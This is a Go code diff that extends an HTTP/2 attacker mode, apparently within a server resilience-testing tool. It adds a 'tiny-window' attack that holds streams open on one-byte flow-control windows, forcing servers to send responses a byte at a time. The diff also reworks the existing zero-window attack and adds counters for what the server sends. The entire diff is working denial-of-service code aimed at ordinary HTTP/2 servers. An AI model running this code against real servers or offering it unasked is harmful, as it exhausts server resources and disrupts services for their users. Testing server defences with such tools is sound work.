@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"context"
 	"crypto/tls"
+	"errors"
 	"flag"
 	"fmt"
 	"io"
@@ -53,12 +54,18 @@ type h2AttackResult struct {
 	FirstRstS float64 `json:"first_rst_s,omitempty"`
 	LastRstS  float64 `json:"last_rst_s,omitempty"`
 	// Responses counts the HEADERS read that began an answer, Ended the streams the server
-	// ended (END_STREAM), and Held (zero-window) the streams still open at the end, neither
-	// ended nor reset, on connections the server had not closed: what it still holds.
+	// ended (END_STREAM), Opened the streams the zero-window and tiny-window attacks opened,
+	// and Held (zero-window) the streams still open at the end, neither ended nor reset, on
+	// connections the server had not closed: what it still holds.
 	Responses int64 `json:"responses"`
 	Ended     int64 `json:"ended"`
 	Opened    int64 `json:"opened"`
 	Held      int64 `json:"held"`
+	// DataFrames counts the DATA frames read and DataBytes the answers' bytes they carried:
+	// under tiny-window no frame can carry more than one byte (an empty one may end a stream),
+	// so they say how much of the answers the server sent a byte at a time.
+	DataFrames int64 `json:"data_frames"`
+	DataBytes  int64 `json:"data_bytes"`
 	// FirstError is the first error that ended a connection, for the log.
 	FirstError string `json:"first_error,omitempty"`
 	Negotiated string `json:"negotiated,omitempty"`
@@ -84,6 +91,8 @@ type attackRun struct {
 	ended     atomic.Int64
 	opened    atomic.Int64
 	held      atomic.Int64
+	dataFrs   atomic.Int64
+	dataBytes atomic.Int64
 	mu        sync.Mutex
 	firstNs   int64    // the first close, ns after t0
 	rstNs     [2]int64 // the first and the last RST_STREAM, ns after t0
@@ -158,9 +167,12 @@ func (r *attackRun) loop(ctx context.Context) {
 		}
 		r.conns.Add(1)
 		stop := context.AfterFunc(ctx, func() { c.Close() })
-		if r.attack == attackZeroWindow {
+		switch r.attack {
+		case attackZeroWindow:
 			r.zeroWindow(ctx, c)
-		} else {
+		case attackTinyWindow:
+			r.tinyWindow(ctx, c)
+		default:
 			r.flood(ctx, c)
 		}
 		stop()
@@ -168,20 +180,22 @@ func (r *attackRun) loop(ctx context.Context) {
 	}
 }
 
-// attackConn is one attacker connection's writer: the frames go through bw, under mu. A
-// flood's reader does not write (the writer may be blocked in a write, holding mu, until the
-// server reads, and the server may wait for the reader): it counts the ACKs owed in acks, and
-// the writer sends them before its next batch.
+// attackConn is one attacker connection: the frames go out through bw, under mu, and what the
+// server sends is read through br. A flood's reader does not write (the writer may be blocked
+// in a write, holding mu, until the server reads, and the server may wait for the reader): it
+// counts the ACKs owed in acks, and the writer sends them before its next batch. The stream
+// attacks' reader is their only writer once the streams are open.
 type attackConn struct {
 	c    net.Conn
 	mu   sync.Mutex
 	bw   *bufio.Writer
+	br   *bufio.Reader
 	a    *abuseFrames
 	acks atomic.Int32
 }
 
 func (r *attackRun) newConn(c net.Conn, authority string) *attackConn {
-	ac := &attackConn{c: c, bw: bufio.NewWriterSize(c, 32<<10)}
+	ac := &attackConn{c: c, bw: bufio.NewWriterSize(c, 32<<10), br: bufio.NewReaderSize(c, 32<<10)}
 	ac.a = newAbuseFrames(r.attack, ac.bw, r.scheme, authority, r.path)
 	return ac
 }
@@ -194,6 +208,17 @@ func (ac *attackConn) write(w func() error) error {
 	if err == nil {
 		err = ac.bw.Flush()
 	}
+	return err
+}
+
+// buffer runs w under the connection's lock without flushing (the stream attacks' reader
+// flushes once it has read all that came) and counts the frames w wrote.
+func (r *attackRun) buffer(ac *attackConn, w func() error) error {
+	ac.mu.Lock()
+	defer ac.mu.Unlock()
+	before := ac.a.frames
+	err := w()
+	r.frames.Add(ac.a.frames - before)
 	return err
 }
 
@@ -256,12 +281,13 @@ func (r *attackRun) flood(ctx context.Context, c net.Conn) {
 
 type errBox struct{ err error }
 
-// readFrames reads the server's frames until the connection fails: it counts GOAWAYs, resets,
-// answers and ended streams, has the server's SETTINGS acknowledged (but by the SETTINGS and
-// PING floods, which read only once the connection failed) and, on a zero-window connection,
-// answers PINGs; it calls onFrame, if set, with each frame.
-func (r *attackRun) readFrames(ac *attackConn, onFrame func(http2.Frame)) error {
-	fr := http2.NewFramer(io.Discard, bufio.NewReaderSize(ac.c, 32<<10))
+// readFrames reads the server's frames until the connection fails or onFrame, if set, which it
+// calls with each frame, returns an error: it counts GOAWAYs, resets, answers, DATA and ended
+// streams, has the server's SETTINGS acknowledged (but by the SETTINGS and PING floods, which
+// read only once the connection failed) and, on the stream attacks' connections, answers PINGs
+// and flushes what onFrame wrote once it has read all that came.
+func (r *attackRun) readFrames(ac *attackConn, onFrame func(http2.Frame) error) error {
+	fr := http2.NewFramer(io.Discard, ac.br)
 	fr.SetMaxReadFrameSize(1 << 24)
 	for {
 		f, err := fr.ReadFrame()
@@ -292,55 +318,59 @@ func (r *attackRun) readFrames(ac *attackConn, onFrame func(http2.Frame)) error 
 				r.ended.Add(1)
 			}
 		case *http2.DataFrame:
+			r.dataFrs.Add(1)
+			r.dataBytes.Add(int64(len(f.Data())))
 			if f.StreamEnded() {
 				r.ended.Add(1)
 			}
 		case *http2.SettingsFrame:
 			switch {
 			case f.IsAck() || !reads(r.attack):
-			case r.attack == attackZeroWindow:
+			case streamAttack(r.attack):
 				r.frames.Add(1)
 				ac.write(func() error { return ac.a.fr.WriteSettingsAck() })
 			default:
 				ac.acks.Add(1)
 			}
 		case *http2.PingFrame:
-			if !f.IsAck() && r.attack == attackZeroWindow {
+			if !f.IsAck() && streamAttack(r.attack) {
 				r.frames.Add(1)
 				ac.write(func() error { return ac.a.fr.WritePing(true, f.Data) })
 			}
 		}
 		if onFrame != nil {
-			onFrame(f)
+			if err := onFrame(f); err != nil {
+				return err
+			}
+		}
+		// What onFrame wrote goes out once the frames that came together are read: at once,
+		// since the server may be waiting for it, and in one write for all of them.
+		if streamAttack(r.attack) && ac.br.Buffered() == 0 {
+			if err := ac.write(func() error { return nil }); err != nil {
+				return err
+			}
 		}
 	}
 }
 
-// zeroWindow opens the connection's streams with no window to answer them in, then reads until
-// the server ends the connection or the attack ends; the streams neither ended nor reset then
-// are the server's to hold.
-func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
+// startStreams begins a zero-window or tiny-window connection: the preface with the attack's
+// SETTINGS, then the server's SETTINGS read (they say how many streams it takes) and
+// acknowledged, and the first streams opened, as many as -streams and the server allow. It
+// returns the connection, the streams opened and how many the connection is to keep open.
+func (r *attackRun) startStreams(c net.Conn) (*attackConn, []uint32, int, error) {
 	ac := r.newConn(c, r.addr)
-	// The server's SETTINGS first: they say how many streams it takes.
 	c.SetReadDeadline(time.Now().Add(5 * time.Second))
 	if err := ac.write(ac.a.preface); err != nil {
-		r.serverClosed(err)
-		return
+		return nil, nil, 0, err
 	}
 	r.frames.Add(1)
-	br := bufio.NewReaderSize(c, 32<<10)
-	first := http2.NewFramer(io.Discard, br)
-	f, err := first.ReadFrame()
+	f, err := http2.NewFramer(io.Discard, ac.br).ReadFrame()
 	if err != nil {
-		if ctx.Err() == nil {
-			r.serverClosed(err)
-		}
-		return
+		return nil, nil, 0, err
 	}
 	sf, ok := f.(*http2.SettingsFrame)
 	if !ok || sf.IsAck() {
-		r.serverClosed(fmt.Errorf("the server's first frame is %v, not its SETTINGS", f.Header().Type))
-		return
+		return nil, nil, 0, fmt.Errorf("the server's first frame is %v, not its SETTINGS", f.Header().Type)
 	}
 	n := r.streams
 	if v, ok := sf.Value(http2.SettingMaxConcurrentStreams); ok && int(v) < n {
@@ -358,6 +388,14 @@ func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
 	})
 	r.frames.Add(int64(1 + len(ids)))
 	r.opened.Add(int64(len(ids)))
+	return ac, ids, n, err
+}
+
+// zeroWindow opens the connection's streams with no window to answer them in, then reads until
+// the server ends the connection or the attack ends; the streams neither ended nor reset then
+// are the server's to hold.
+func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
+	ac, ids, _, err := r.startStreams(c)
 	if err != nil {
 		if ctx.Err() == nil {
 			r.serverClosed(err)
@@ -368,10 +406,7 @@ func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
 	for _, id := range ids {
 		open[id] = true
 	}
-	// The rest of the connection's input goes through the same reader: br may hold frames
-	// that came with the server's SETTINGS.
-	ac.c = readerConn{Conn: c, r: br}
-	err = r.readFrames(ac, func(f http2.Frame) {
+	err = r.readFrames(ac, func(f http2.Frame) error {
 		switch f := f.(type) {
 		case *http2.RSTStreamFrame:
 			delete(open, f.StreamID)
@@ -384,6 +419,7 @@ func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
 				delete(open, f.StreamID)
 			}
 		}
+		return nil
 	})
 	if ctx.Err() != nil {
 		// The attack's end closed the connection: what was still open, the server held.
@@ -393,13 +429,82 @@ func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
 	r.serverClosed(err)
 }
 
-// readerConn reads through a bufio.Reader that may hold the connection's first bytes.
-type readerConn struct {
-	net.Conn
-	r *bufio.Reader
-}
+// errGoneAway ends a tiny-window connection the server sent a GOAWAY on, once the streams it
+// still answers have ended.
+var errGoneAway = errors.New("GOAWAY, and the streams it left have ended")
 
-func (c readerConn) Read(p []byte) (int, error) { return c.r.Read(p) }
+// tinyWindow keeps the connection's streams open on windows of one byte, reading all the time:
+// every DATA frame read is given back at once, its bytes returned on its stream and on the
+// connection, so that the server may send each answer a byte at a time, a frame out and a
+// WINDOW_UPDATE in for every byte; a stream that ends (END_STREAM, or a reset) is replaced by a
+// new one. After a GOAWAY it opens no more streams (the server would not answer them), and it
+// leaves the connection for a new one once the streams the GOAWAY left have ended.
+func (r *attackRun) tinyWindow(ctx context.Context, c net.Conn) {
+	ac, ids, n, err := r.startStreams(c)
+	if err != nil {
+		if ctx.Err() == nil {
+			r.serverClosed(err)
+		}
+		return
+	}
+	open := make(map[uint32]bool, n)
+	for _, id := range ids {
+		open[id] = true
+	}
+	goingAway := false
+	err = r.readFrames(ac, func(f http2.Frame) error {
+		id := f.Header().StreamID
+		ended := false
+		switch f := f.(type) {
+		case *http2.DataFrame:
+			ended = f.StreamEnded()
+			// The frame's whole payload counts against the windows, padding included.
+			if k := f.Length; k > 0 {
+				if err := r.buffer(ac, func() error { return ac.a.giveBack(id, k, ended) }); err != nil {
+					return err
+				}
+			}
+		case *http2.HeadersFrame:
+			ended = f.StreamEnded()
+		case *http2.RSTStreamFrame:
+			ended = true
+		case *http2.GoAwayFrame:
+			goingAway = true
+			for s := range open {
+				if s > f.LastStreamID {
+					delete(open, s) // never to be answered
+				}
+			}
+		default:
+			return nil
+		}
+		if ended {
+			delete(open, id)
+		}
+		switch {
+		case goingAway && len(open) == 0:
+			// The frames counted as written go out before the attacker leaves.
+			if err := ac.write(func() error { return nil }); err != nil {
+				return err
+			}
+			return errGoneAway
+		case goingAway || len(open) >= n:
+			return nil
+		}
+		return r.buffer(ac, func() error {
+			more, err := ac.a.open(n - len(open))
+			for _, s := range more {
+				open[s] = true
+			}
+			r.opened.Add(int64(len(more)))
+			return err
+		})
+	})
+	if ctx.Err() != nil {
+		return
+	}
+	r.serverClosed(err)
+}
 
 // runH2Attack is the attacker, h2-attack: -conns connections attacking until SIGTERM (or -d).
 func runH2Attack(ctx context.Context, args []string) (any, error) {
@@ -416,6 +521,7 @@ func runH2Attack(ctx context.Context, args []string) (any, error) {
 	if !slices.Contains(attacks, cf.attack) {
 		return nil, fmt.Errorf("-attack %q: one of %s", cf.attack, strings.Join(attacks, ", "))
 	}
+	cf.defaults()
 	if nice != 0 {
 		if err := renice(nice); err != nil {
 			return nil, err
@@ -442,7 +548,8 @@ func runH2Attack(ctx context.Context, args []string) (any, error) {
 	res := &h2AttackResult{Mode: "h2-attack", Attack: cf.attack, Conns: cf.conns, Seconds: time.Since(r.t0).Seconds(),
 		Frames: r.frames.Load(), Connections: r.conns.Load(), DialErrors: r.dialErrs.Load(),
 		Closed: r.closed.Load(), Goaways: r.goaways.Load(), Rsts: r.rsts.Load(), Responses: r.responses.Load(),
-		Ended: r.ended.Load(), Opened: r.opened.Load(), Held: r.held.Load(), FirstError: r.firstErr, Negotiated: r.neg}
+		Ended: r.ended.Load(), Opened: r.opened.Load(), Held: r.held.Load(), DataFrames: r.dataFrs.Load(),
+		DataBytes: r.dataBytes.Load(), FirstError: r.firstErr, Negotiated: r.neg}
 	res.Reconnects = max(res.Connections-int64(cf.conns), 0)
 	if r.firstNs > 0 {
 		res.FirstCloseS = float64(r.firstNs) / 1e9
